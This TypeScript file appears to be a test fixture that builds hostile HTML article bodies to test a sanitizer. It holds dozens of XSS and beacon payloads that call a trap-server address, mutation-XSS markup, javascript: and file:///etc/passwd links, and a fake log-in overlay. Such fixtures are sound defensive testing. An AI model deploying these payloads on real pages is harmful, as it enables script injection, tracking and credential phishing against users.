/** Hostile HTML for the article view, combined from attack vectors and the markup around them. */

/**
 * Returns attack vectors, each of which fetches, opens, runs or covers something in an unguarded browser; `at` is the
 * address of the trap server.
 */
function vectors(at: string): readonly string[] {
  const style = `position:fixed;inset:0;z-index:9;background:url(${at}/s)`;
  return [
    `<img src="${at}/1">`,
    `<IMG SRC=${at}/2 ONERROR=fetch('${at}/on')>`,
    `<img/src="${at}/3"/onload="fetch('${at}/on')">`,
    `<img srcset="${at}/4 1x, ${at}/5 2x">`,
    `<picture><source srcset="${at}/6"><img src="${at}/7"></picture>`,
    `<iframe src="${at}/8"></iframe>`,
    `<iframe srcdoc="<img src='${at}/9'>"></iframe>`,
    `<embed src="${at}/10">`,
    `<object data="${at}/11"><img src="${at}/12"></object>`,
    `<audio src="${at}/13" autoplay></audio>`,
    `<video poster="${at}/14" src="${at}/15" autoplay></video>`,
    `<video><source src="${at}/16" onerror="fetch('${at}/on')"><track src="${at}/17" default></video>`,
    `<script src="${at}/18"></script><script>fetch('${at}/on')</script>`,
    `<input type="image" src="${at}/19"><button formaction="${at}/20" autofocus>Log in</button>`,
    `<form action="${at}/21"><input name="secret" autofocus onfocus="fetch('${at}/on')"></form>`,
    `<body background="${at}/22" onload="fetch('${at}/on')">`,
    `<table background="${at}/23"><tr><td background="${at}/24">1</td></tr></table>`,
    `<link rel="stylesheet" href="${at}/25"><link rel="prefetch" href="${at}/26">`,
    `<link rel="preload" as="image" href="${at}/27"><link rel="modulepreload" href="${at}/28">`,
    `<link rel="icon" href="${at}/29"><link rel="manifest" href="${at}/30"><link rel="dns-prefetch" href="${at}">`,
    `<base href="${at}/"><img src="relative.png"><a href="further">go on</a>`,
    `<meta http-equiv="refresh" content="0;url=${at}/31">`,
    `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${at}/32">`,
    `<style>@import url(${at}/33); * { background: url(${at}/34) !important; visibility: hidden }</style>`,
    `<style>@font-face{font-family:x;src:url(${at}/35)} *{font-family:x}</style><p>Font</p>`,
    `<p style="${style}">Your session has ended. Log in.</p>`,
    `<p style="background:image-set(url(${at}/36) 1x);list-style-image:url(${at}/37);cursor:url(${at}/38),auto">x</p>`,
    `<div style="border-image:url(${at}/39);content:url(${at}/40);mask:url(${at}/41)">x</div>`,
    `<svg onload="fetch('${at}/on')"><image href="${at}/42"/><use href="${at}/43#a"/></svg>`,
    `<svg><script href="${at}/44"/><style>@import '${at}/45'</style><feImage href="${at}/46"/></svg>`,
    `<svg><animate onbegin="fetch('${at}/on')" attributeName=x dur=1s /><a xlink:href="javascript:fetch('${at}/on')"><text>Buy</text></a></svg>`,
    `<svg><foreignObject><iframe src="${at}/47"></iframe><img src="${at}/48"></foreignObject></svg>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:fetch('${at}/on')">x</maction><mtext><img src="${at}/49"></mtext></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at}/50 onerror=fetch('${at}/on')&gt;">`,
    `<details open ontoggle="fetch('${at}/on')"><summary>x</summary></details>`,
    `<a href="javascript:fetch('${at}/on')" autofocus onfocus="fetch('${at}/on')">a</a> <a href="java&#9;script:fetch('${at}/on')">b</a>`,
    `<a href="smb://127.0.0.1/share">c</a> <a href="file:///etc/passwd">d</a> <a href="data:text/html,<script>fetch('${at}/on')</script>">e</a>`,
    `<a href="https://exchange.invalid@evil.invalid/">f</a> <a href="//evil.invalid/x" ping="${at}/51">g</a>`,
    `<p>\u202Eevil\u202C \u2066name\u2069 pay\u200Bee</p><bdo dir="rtl">gnp</bdo><img src="${at}/52">`,
    `<template shadowrootmode="open"><img src="${at}/53"><slot></slot></template><custom-x onclick="fetch('${at}/on')"><img src="${at}/54"></custom-x>`,
    `<noscript><p title="</noscript><img src=${at}/55 onerror=fetch('${at}/on')>"></noscript>`,
    `<dialog open style="${style}"><img src="${at}/56"></dialog><div popover id="p">x</div><button popovertarget="p">y</button>`,
  ];
}

/** Markup before and after a vector; some of it is never closed, or changes how the rest is parsed. */
const around: readonly (readonly [string, string])[] = [
  ['<p>Rates</p>', ''],
  ['<table><tbody><tr><td>', '</td></tr></tbody></table>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<select><option>', '</option></select>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<!-- a --!>', '<!-- never closed'],
];

/** Number of vectors in one body. */
const TOGETHER = 4;

/**
 * Returns the bodies of articles, each with a few vectors in the same surrounding markup, and the number of variants in
 * them.
 */
export function hostileBodies(at: string): { readonly bodies: readonly string[]; readonly variants: number } {
  const bodies: string[] = [];
  let variants = 0;
  for (const [before, after] of around) {
    // Unclosed markup swallows what follows it: such bodies hold only two vectors.
    const together = after === '' || after.startsWith('<!--') ? 2 : TOGETHER;
    const fragments = vectors(at).map((vector) => `<div>${before}${vector}${after}</div>`);
    variants += fragments.length;
    for (let first = 0; first < fragments.length; first += together)
      bodies.push(fragments.slice(first, first + together).join('\n'));
  }
  return { bodies, variants };
}
